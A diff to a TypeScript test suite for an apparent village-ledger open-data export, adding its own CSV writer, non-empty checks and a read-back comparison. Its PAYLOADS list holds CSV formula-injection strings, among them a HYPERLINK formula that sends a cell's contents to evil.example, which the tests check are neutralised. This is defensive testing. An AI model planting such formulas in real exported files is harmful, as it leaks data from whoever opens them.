@@ -19,7 +19,6 @@ import { openPeriod } from '@mingbai/db/ledger/periods';
 import { postVouchers } from '@mingbai/db/ledger/post';
 import { publishPeriod } from '@mingbai/db/ledger/publish';
 import type { UserRole } from '@mingbai/db/schema/users';
-import { copyCsvRow } from '../api/src/opendata/csv.ts';
 import { FILE_FORMAT } from '../api/src/opendata/export-sql.ts';
 import { pruneCache } from '../api/src/opendata/cache.ts';
 import { useTestApi } from './support/api.ts';
@@ -61,6 +60,20 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
+/**
+ * A CSV writer of the test's own, not the export's: RFC 4180 as PostgreSQL's COPY (format csv) writes it, which the
+ * docs promise: NULL as an empty cell, the empty string as "", a cell with a quote, comma, CR or LF quoted.
+ */
+function csvRow(values: readonly unknown[]): string {
+  const cell = (value: unknown) => {
+    if (value === null || value === undefined) return '';
+    const text = String(value);
+    const mustQuote = text === '' || ['"', ',', '\n', '\r'].some((c) => text.includes(c));
+    return mustQuote ? `"${text.split('"').join('""')}"` : text;
+  };
+  return `${values.map(cell).join(',')}\n`;
+}
+
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+86 打款', '-1+2', '@SUM(A1:A9)'];
 
 async function monthWithPayloads() {
@@ -94,6 +107,7 @@ describe('a village month', () => {
     }
     expect(summaries).toContain('含"引号",逗号\n换行');
     // Every cell of every row: none starts a formula.
+    expect(rows.length).toBeGreaterThan(1);
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
 
     const jsonl = await (await get(`/data/v/${village.slug}/2025-03/lines.jsonl`)).text();
@@ -337,7 +351,7 @@ async function referenceLines(year: number, month: number, villageIds?: number[]
 async function referenceFiles(year: number, month: number, villageIds?: number[]) {
   const rows = await referenceLines(year, month, villageIds);
   const columns = Object.keys(rows[0]!).filter((c) => !c.endsWith('_json'));
-  const csv = '\ufeff' + copyCsvRow(columns) + rows.map((r) => copyCsvRow(columns.map((c) => r[c]))).join('');
+  const csv = '\ufeff' + csvRow(columns) + rows.map((r) => csvRow(columns.map((c) => r[c]))).join('');
   const integers = ['year', 'month', 'revision', 'voucher_number', 'line_no', 'attachments'];
   const jsonl = rows
     .map((r) => {
@@ -361,6 +375,11 @@ describe('the bytes of a national month', () => {
     expect(rows.length).toBeGreaterThan(10);
     expect(servedCsv).toBe(csv);
     expect(servedJsonl).toBe(jsonl);
+    // Read back by a reader that is not the writer: the same cells as the reference query's rows.
+    const columns = Object.keys(rows[0]!).filter((c) => !c.endsWith('_json'));
+    const parsed = parseCsv(servedCsv.slice(1));
+    expect(parsed[0]).toEqual(columns);
+    expect(parsed.slice(1)).toEqual(rows.map((r) => columns.map((c) => (r[c] === null ? '' : String(r[c])))));
   });
 });
 
@@ -547,7 +566,9 @@ describe('per-village-month fragments', () => {
       const [whole] = readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.lines.csv'));
       const wholeBytes = statSync(join(dir, whole!)).size;
       const hourAgo = new Date(Date.now() - 3_600_000);
-      for (const name of Object.keys(fragmentsOf(dir, '2025-10', villages))) {
+      const fragmentNames = Object.keys(fragmentsOf(dir, '2025-10', villages));
+      expect(fragmentNames.length).toBeGreaterThan(0);
+      for (const name of fragmentNames) {
         utimesSync(join(folderOf(dir, '2025-10'), name), hourAgo, hourAgo);
       }
       // Action: room for the whole file only; the fragments were used longer ago
